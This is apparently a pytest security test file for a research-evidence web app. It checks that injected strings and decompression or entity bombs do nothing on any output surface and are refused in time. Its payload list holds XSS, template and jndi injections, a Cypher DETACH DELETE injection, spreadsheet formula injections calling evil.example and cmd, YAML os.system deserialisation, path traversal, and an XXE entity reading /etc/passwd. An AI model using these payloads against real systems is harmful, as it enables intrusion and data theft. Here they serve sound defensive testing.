"""Strings that mean something to what shows or stores them, in every text of a field, its terms, its sheets and its review: on no surface
do they do anything. And bombs, which are refused before they unfold.
"""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import sys
import time
import zipfile
import zlib
from collections import Counter
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import quote
from xml.etree import ElementTree as Xml

import bibtexparser
import pytest
import yaml
from starlette.testclient import TestClient

from api.app import create_app
from graph.opening import check, load, open_store
from graph.settings import Settings
from graph.stores.port import Store
from tests.conftest import BCG, MEMORY, ON_LTS
from tests.test_deployments import addresses
from tests.test_pages import HTML
from tests.test_serve import PROGRAM, environment

STRINGS = {
    "html": "\"'><img src=x onerror=alert(1)><script>alert(2)</script><svg/onload=alert(3)>",
    "template": "{{7*7}}{% for x in y %}${jndi:ldap://x}<%= 7 %>",
    "link": "javascript:alert(1)//",
    "cypher": "x'}) DETACH DELETE n WITH 1 AS n MATCH (n) DETACH DELETE n //`",
    "formula": '=HYPERLINK("http://evil.example/"&A1,"open")',
    "plus": "+1+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "tab": 'x\t=1+1\t"',
    "ris": "x\nER  - \nTY  - JOUR\nTI  - evil\nER  - \n",
    "bibtex": "x}, url={http://evil.example}}\n@article{evil, title={x}}\n\\input{/etc/passwd}",
    "xml": "]]><x xmlns='evil'/>&lt;&#0;<!--",
    "path": "../../../../etc/passwd\\..\\x",
    "yaml": "!!python/object/apply:os.system ['true'] &a *a",
    "r": "x\"); system('true') #\nsystem('true')",
    "direction": "\u202e\u2066evil\u200b\u2028x",
    "format": "%s%n{0.__class__}",
}


class Elements(HTMLParser):
    """The elements and attributes of a page that could do something."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[Any] = []
        self.titles = Counter[str]()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.titles[tag] += 1
        given = dict(attrs)
        for name, value in attrs:
            leads = name in {"href", "src", "action", "xlink:href", "formaction"}
            if name.startswith("on") or name == "style" or (leads and re.match(r"(?i)\s*(javascript|data|vbscript):", value or "")):
                self.wrong.append((tag, name, value))
        if (tag == "script" and not (given.get("src") or "").startswith("/static/")) or tag in {"img", "iframe", "object", "embed"}:
            self.wrong.append((tag, attrs))


def spoilt(given: Any, bad: str, keys: frozenset[str]) -> Any:
    """A document with that string in the place of every text behind these keys."""
    if isinstance(given, dict):
        found = {}
        for key, value in given.items():
            if key in keys:
                found[key] = bad if isinstance(value, str) else [bad] if isinstance(value, list) else value
            else:
                found[key] = spoilt(value, bad, keys)
        return found
    return [spoilt(one, bad, keys) for one in given] if isinstance(given, list) else given


# what is a name of nothing else
SHEET = frozenset({"title", "authors", "first_author", "journal", "label", "criteria", "notes", "contrast", "source", "cutoff", "quote"})
FIELD = frozenset({"title", "lead"})


def field_with(bad: str, folder: Path) -> Path:
    folder.mkdir()
    (folder / "studies").mkdir()
    field = yaml.safe_load((BCG / "field.yaml").read_text(encoding="utf-8"))
    field = {**field, "title": bad, "lead": bad, "abbreviations": {**field["abbreviations"], "ZZZ": bad}}
    for one in field["populations"]:
        one["name"] = f"{one['id']} {bad}"
    (folder / "field.yaml").write_text(yaml.safe_dump(field, allow_unicode=True), encoding="utf-8")
    terms = yaml.safe_load((BCG / "vocabulary.yaml").read_text(encoding="utf-8"))
    for one in terms["terms"]:
        one |= {"name": f"{bad} {one['id']}", "definition": bad, "category": one["category"], "synonyms": [f"{one['id']} {bad}"]}
    (folder / "vocabulary.yaml").write_text(yaml.safe_dump(terms, allow_unicode=True), encoding="utf-8")
    for place in sorted((BCG / "studies").glob("*.yaml")):
        sheet = spoilt(yaml.safe_load(place.read_text(encoding="utf-8")), bad, SHEET)
        sheet |= {"title": bad, "first_author": bad, "authors": [bad], "journal": bad, "cohorts": [bad], "notes": bad}
        sheet |= {"countries": [bad]}
        for row in sheet["findings"]:
            row |= {"contrast": bad, "source": bad, "notes": bad}
        (folder / "studies" / place.name).write_text(yaml.safe_dump(sheet, allow_unicode=True), encoding="utf-8")
    (folder / "review.yaml").write_text(yaml.safe_dump({"question": bad, "found": bad, "read_twice": bad}), encoding="utf-8")
    return folder


@pytest.fixture(params=STRINGS)
def bad(request: pytest.FixtureRequest) -> str:
    return STRINGS[request.param]


@pytest.fixture(params=[MEMORY, ON_LTS])
def store(bad: str, request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Store]:
    # each takes four seconds in memory, and ten in Neo4j
    some = [*STRINGS.values()][::3] if request.param == MEMORY else [STRINGS["html"], STRINGS["cypher"]]
    if not request.config.getoption("--all") and bad not in some:
        pytest.skip("every string on every store: with --all")
    field = field_with(bad, tmp_path / "field")
    if request.param == MEMORY:
        settings = Settings(field=field, snapshot=tmp_path / "data", store="memory:")
    else:
        empty = request.getfixturevalue("empty")
        settings = Settings(field=field, store=empty.uri, neo4j_user=empty.user, neo4j_password=empty.password)
    loaded = check(settings, [field / "studies"], fresh=True)
    assert [str(one) for one in loaded.errors] == []
    load(settings, [field / "studies"], fresh=True)
    opened = open_store(settings)
    yield opened
    opened.close()


def cells(text: str, delimiter: str) -> Iterator[str]:
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, strict=True):
        yield from row


def judge(address: str, media: str, body: bytes, studies: int) -> None:
    """That nothing of what was put in does anything in a body of that type."""
    text = "" if media in {"application/zip", "image/png"} else body.decode()
    match media:
        case "text/html":
            page = Elements()
            page.feed(text)
            assert page.wrong == [], address
            assert page.titles["html"] == page.titles["main"] == 1, address
            assert "49" not in re.findall(r"<h1[^>]*>(\d+)", text)
        case "image/svg+xml" | "application/graphml+xml" | "application/atom+xml":
            for one in Xml.fromstring(text).iter():
                assert one.tag.rpartition("}")[2] not in {"script", "foreignObject", "img", "x"}, address
                assert [name for name in one.attrib if name.lower().startswith("on")] == [], address
                assert not any(value.lower().startswith("javascript:") for name, value in one.attrib.items() if name.endswith("href"))
        case "text/csv" | "text/tab-separated-values":
            for cell in cells(text, "," if media == "text/csv" else "\t"):
                assert cell[:1] not in set("=+-@\t\r\n") or re.fullmatch(r"[+-]?[\d.]+(e-?\d+)?", cell), (address, cell)
        case "application/x-research-info-systems":
            assert all(re.match(r"[A-Z][A-Z0-9]  - |$", line) for line in text.splitlines()), address
            assert text.count("\nER  -") + text.startswith("ER  -") == text.count("TY  - ") <= studies, address
        case "application/x-bibtex":
            read = bibtexparser.parse_string(text)
            assert (read.failed_blocks, read.strings, read.comments) == ([], [], []), address
            assert len(read.entries) == text.count("\n@") + text.startswith("@") <= studies
            assert not any("input" in f.value and "\\input" in f.value for one in read.entries for f in one.fields), address
        case "application/json" | "application/vnd.citationstyles.csl+json" | "application/openapi+json":
            json.loads(text)
        case "application/zip":
            with zipfile.ZipFile(io.BytesIO(body)) as parts:
                for name in parts.namelist():
                    assert re.fullmatch(r"[A-Za-z0-9_/.-]+", name), name
                    assert not name.startswith("/")
                    assert ".." not in name
                    if name.endswith(".csv"):
                        judge(f"{address} {name}", "text/csv", parts.read(name), studies)
                    elif name.endswith(".R"):
                        script(parts.read(name).decode())
                    elif name.endswith(".tsv"):
                        widths = {line.count("\t") for line in parts.read(name).decode().split("\n")[:-1]}
                        assert len(widths) == 1, name
        case _:
            assert media in {"text/css", "text/javascript", "application/javascript", "image/png", "text/plain"}, (address, media)


def script(text: str) -> None:
    """No line of R that is no comment calls what we don't, outside texts."""
    code = "\n".join(re.sub(r'"(?:\\.|[^"\\])*"', '""', line) for line in text.splitlines() if not line.startswith("#"))
    assert "system" not in code


def test_no_string_does_anything_on_any_surface(store: Store, bad: str) -> None:
    release, studies = store.reader().release(), len(store.reader().studies())
    with TestClient(create_app(store), raise_server_exceptions=False) as client:
        document = client.get("/openapi.json").json()
        asked = [one for one in addresses(client) if "exposure=" not in one or "bcg" in one]
        forms = []
        for path, operations in document["paths"].items():
            for one in operations.get("get", {}).get("parameters", ()):
                if one["name"] == "format":
                    allowed = one["schema"].get("enum", ())
                    forms += [
                        f"{place}{'&' if '?' in place else '?'}format={form}"
                        for place in asked
                        if place.partition("?")[0] == path
                        for form in allowed
                        if form != "png"
                    ]
        for address in (*asked, *forms, f"/search?q={quote(bad)}", f"/cohorts/{quote(bad, safe='')}", f"/v1/cohorts/{quote(bad, safe='')}"):
            answer = client.get(address, headers=HTML)
            if answer.status_code == 404 and ("cohorts/" in address or "age" in address or "menon" in address or "microbleed" in address):
                continue
            assert answer.status_code < 500, (address, answer.text[:300])
            media = answer.headers["content-type"].partition(";")[0]
            if address == "/docs":
                assert "<script>alert" not in answer.text
                assert "<img" not in answer.text
                continue
            if media == "application/problem+json":
                media = "application/json"
            judge(address, media, answer.content, studies)
            named = answer.headers.get("content-disposition", 'inline; filename="x"')
            assert re.fullmatch(r'(inline|attachment); filename="[a-z0-9.-]+"', named), named
        assert store.reader().release() == release


# --- bombs ---


def zipped(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


LAUGHS = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' if i else '<!ENTITY l0 "ha">' for i in range(10))
XML = f'<?xml version="1.0"?><!DOCTYPE w [{LAUGHS}<!ENTITY f SYSTEM "file:///etc/passwd">]>'
_TYPES = """<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>
<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>
</Types>"""
_RELATION = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" Target="{}"/></Relationships>'
)
_BOOK = (
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="findings" sheetId="1" r:id="r1"/></sheets></workbook>'
)


def workbook(sheet: bytes, book: str = _BOOK) -> bytes:
    return zipped(
        {
            "[Content_Types].xml": _TYPES.encode(),
            "_rels/.rels": _RELATION.format("officeDocument", "xl/workbook.xml").encode(),
            "xl/workbook.xml": book.encode(),
            "xl/_rels/workbook.xml.rels": _RELATION.format("worksheet", "worksheets/sheet1.xml").encode(),
            "xl/worksheets/sheet1.xml": sheet,
        }
    )


def sheet_of(inside: str) -> bytes:
    return (
        f'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{inside}</sheetData></worksheet>'.encode()
    )


CELL = '<row r="{0}"><c r="A{0}" t="inlineStr"><is><t>{1}</t></is></c></row>'
MERGED = b'</sheetData><mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'
BOMBS: dict[str, Callable[[], bytes]] = {
    "zip of zeros.xlsx": lambda: zipped({"mimetype": bytes(200 * 1024**2)}),
    "zip of zeros in a sheet.xlsx": lambda: workbook(bytes(200 * 1024**2)),
    "empty cells.xlsx": lambda: workbook(sheet_of('<row r="1">' + '<c r="A1"/>' * 6_000_000 + "</row>")),
    "many rows.xlsx": lambda: workbook(sheet_of("".join(CELL.format(i, "x") for i in range(1, 700_000)))),
    "one long cell.xlsx": lambda: workbook(sheet_of(CELL.format(1, "x" * 100_000_000))),
    "laughs.xlsx": lambda: workbook(XML.encode() + sheet_of(CELL.format(1, "&l9;"))),
    "a file of the server's.xlsx": lambda: workbook(XML.encode() + sheet_of(CELL.format(1, "&f;"))),
    "laughs in the book.xlsx": lambda: workbook(sheet_of(CELL.format(1, "x")), f"{XML}{_BOOK.replace('findings', '&l9;')}"),
    "merged.xlsx": lambda: workbook(sheet_of(CELL.format(1, "x")).replace(b"</sheetData>", MERGED)),
    "laughs.yaml": lambda: "".join(f"a{i}: &a{i} [{', '.join([f'*a{i - 1}' if i else 'x'] * 9)}]\n" for i in range(12)).encode(),
    "merges.yaml": lambda: b"a: &a {x: 1}\n" + b"b: {<<: [*a, *a]}\n",
    "deep.yaml": lambda: b"[" * 500_000,
    "deep mappings.yaml": lambda: b"{a: " * 200_000,
    "wide.yaml": lambda: b"- {}\n" * 200_000,
    "keys.yaml": lambda: b"".join(b"k%d: 1\n" % i for i in range(90_000)),
    "deep.json": lambda: b"[" * 1_000_000,
    "digits.json": lambda: b'{"id": "a-2020", "n": ' + b"9" * 1_000_000 + b"}",
    "digits.yaml": lambda: b"id: a-2020\nn: " + b"9" * 1_000_000 + b"\n",
    "wide.csv": lambda: b"a," * 500_000 + b"\n" + b"1," * 20,
    "quote.csv": lambda: b'study,exposure,outcome\n"' + b"x\n" * 500_000,
    "spaces.csv": lambda: b"OR (95% CI)" + b" " * 1_000_000 + b"x,p,n\n1.2 (" + b"1" * 100_000 + b",2,3\n",
    "bytes.csv": lambda: bytes(range(256)) * 4000,
    "page.html": lambda: b"<!--" + b"-->" * 300_000 + b"<html",
    "book.xml": lambda: b"<?xml " + b"<" * 1_000_000,
}  # fmt: skip
MOST_SECONDS, MOST_MIB = 30, 1024


# many mistakes are all told to who loads a file of their own
@pytest.mark.parametrize("name", [one for one in BOMBS if one != "wide.yaml"])
def test_a_bomb_is_refused_in_time_and_within_a_gib(name: str, tmp_path: Path) -> None:
    """In a process of its own, by `rdwi check`, which reads as a load does."""
    file = tmp_path / name
    file.write_bytes(BOMBS[name]())
    measured = "import re; print('peak', int(re.search('VmHWM:\\s*([0-9]+)', open('/proc/self/status').read())[1]) // 1024)"
    program = f"import atexit; atexit.register(lambda: exec({measured!r})); {PROGRAM[-1]}"
    begun = time.monotonic()
    given = environment(tmp_path / "data")
    done = subprocess.run(
        [sys.executable, "-c", program, "check", str(file)], env=given, capture_output=True, text=True, timeout=120, check=False
    )
    assert time.monotonic() - begun < MOST_SECONDS
    assert done.returncode == 1, (done.returncode, done.stdout[-300:], done.stderr[-300:])
    assert "Traceback" not in done.stderr
    assert "root:" not in done.stderr
    assert len(done.stderr) < 100_000
    assert int(done.stdout.rpartition("peak ")[2]) < MOST_MIB


@pytest.mark.parametrize("name", [one for one in BOMBS if one != "many rows.xlsx"])
def test_a_bomb_in_preview_is_refused_in_time(client: TestClient, name: str) -> None:
    bomb = BOMBS[name]()
    begun = time.monotonic()
    page = client.post("/preview", files={"file": (name, bomb)})
    assert page.status_code == (422 if len(bomb) < 1024**2 - 1000 else 413), page.text[:300]
    assert len(page.content) < 2 * 1024**2
    if not name.endswith((".xlsx", ".csv")):
        assert client.post("/v1/preview", content=bomb).status_code == (422 if len(bomb) <= 1024**2 else 413)
    assert time.monotonic() - begun < MOST_SECONDS


def test_what_preview_is_sent_packed_is_not_unpacked(client: TestClient) -> None:
    packed = zlib.compress(bytes(200 * 1024**2))
    assert len(packed) < 1024**2
    assert client.post("/v1/preview", content=packed, headers={"Content-Encoding": "deflate"}).status_code == 422
